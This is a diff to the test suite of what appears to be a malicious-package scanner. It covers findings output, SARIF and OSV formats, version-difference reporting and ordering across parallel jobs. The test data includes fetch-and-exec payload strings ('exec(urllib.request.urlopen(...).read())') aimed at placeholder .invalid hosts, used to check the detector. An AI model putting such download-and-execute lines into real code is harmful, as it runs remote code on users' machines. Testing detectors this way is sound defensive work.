@@ -64,10 +64,10 @@ def test_a_json_line_a_file_with_the_contracts_fields(hostile: Path, clean: Path
     assert names <= row.keys()
     assert (row["outcome"], row["tier"]) == ("flagged", "hold")
     assert 0.9 <= row["score"] <= 1
-    (finding,) = row["findings"]
+    (finding,) = (finding for finding in row["findings"] if finding["check"] == "download-and-execute")
     names = {"check", "version", "message", "member", "line", "context", "chain", "excerpt"}
     assert names <= finding.keys()
-    assert (finding["check"], finding["line"], finding["context"]) == ("download-and-execute", 2, "install")
+    assert (finding["line"], finding["context"]) == (2, "install")
     assert rows[clean.name]["findings"] == []
 
 
@@ -78,8 +78,8 @@ def test_sarif_has_a_rule_and_a_place_for_each_finding(hostile: Path) -> None:
     assert log["version"] == "2.1.0"
     (run,) = log["runs"]
     rules = {rule["id"] for rule in run["tool"]["driver"]["rules"]}
-    (found,) = run["results"]
-    assert found["ruleId"] in rules
+    assert {found["ruleId"] for found in run["results"]} <= rules
+    (found,) = (found for found in run["results"] if found["ruleId"] == "download-and-execute")
     assert found["level"] == "error"
     location = found["locations"][0]["physicalLocation"]
     assert location["artifactLocation"]["uri"].endswith("hostile-1.0.tar.gz")
@@ -115,7 +115,7 @@ def test_one_bad_file_among_many_is_incomplete_and_the_others_are_screened(tmp_p
     assert outcomes == {hostile.name: "flagged", "nonsense.whl": "incomplete"}
     log = json.loads(screen("--format", "sarif", tmp_path).stdout)
     (run,) = log["runs"]
-    assert len(run["results"]) == 1
+    assert run["results"]
     assert "nonsense.whl" in run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]
 
 
@@ -139,6 +139,41 @@ def test_previous_marks_what_was_there_before(tmp_path: Path, hostile: Path) -> 
         'exec(urllib.request.urlopen("http://payload.invalid/x").read())': False,
         'exec(urllib.request.urlopen("http://other.invalid/y").read())': True,
     }
+
+
+def test_previous_says_what_is_new_in_the_release(tmp_path: Path) -> None:
+    older = write(tmp_path, build_wheel("tidy", "1.0", files={"tidy/__init__.py": "ANSWER = 42\n"}))
+    more = "import urllib.request\nANSWER = 42\n\ndef ask():\n    urllib.request.urlopen('http://new.invalid/x')\n"
+    newer = write(tmp_path, build_wheel("tidy", "1.1", files={"tidy/__init__.py": more, "tidy/more.py": ""}))
+    (row,) = map(json.loads, screen("--format", "jsonl", "--previous", older, newer).stdout.splitlines())
+    assert row["difference"]["previous"] == "1.0"
+    assert row["difference"]["members"] == ["tidy/more.py"]
+    assert row["difference"]["hosts"] == ["new.invalid"]
+    assert {"context": "call", "name": "urllib.request.urlopen"} in row["difference"]["acts"]
+    shown = screen("--previous", older, newer).stdout
+    assert "new since 1.0:" in shown
+    assert "hosts: new.invalid" in shown
+    same = screen("--previous", older, older).stdout
+    assert "new since" not in same
+
+
+def test_osv_has_a_record_of_what_checks_would_hold_as_malicious(clean: Path, hostile: Path) -> None:
+    result = screen("--format", "osv", clean, hostile)
+    assert result.returncode == 1
+    (record,) = map(json.loads, result.stdout.splitlines())
+    assert record["affected"][0]["package"]["name"] == "hostile"
+    assert record["database_specific"]["reviewed"] is False
+
+
+@pytest.mark.parametrize("jobs", ["1", "3"])
+def test_results_come_in_the_order_of_the_archives_however_many_run_at_once(tmp_path: Path, jobs: str) -> None:
+    for number in range(10):
+        write(tmp_path, build_wheel(f"many{number}", "1.0", files={f"many{number}/__init__.py": "x = 1\n"}))
+    result = screen("--format", "jsonl", "--jobs", jobs, tmp_path)
+    assert result.returncode == 0, result.stderr
+    names = [Path(json.loads(line)["file"]).name for line in result.stdout.splitlines()]
+    assert names == sorted(names)
+    assert len(names) == 10
 
 
 def test_no_text_of_a_package_reaches_the_terminal_as_a_command(tmp_path: Path) -> None:
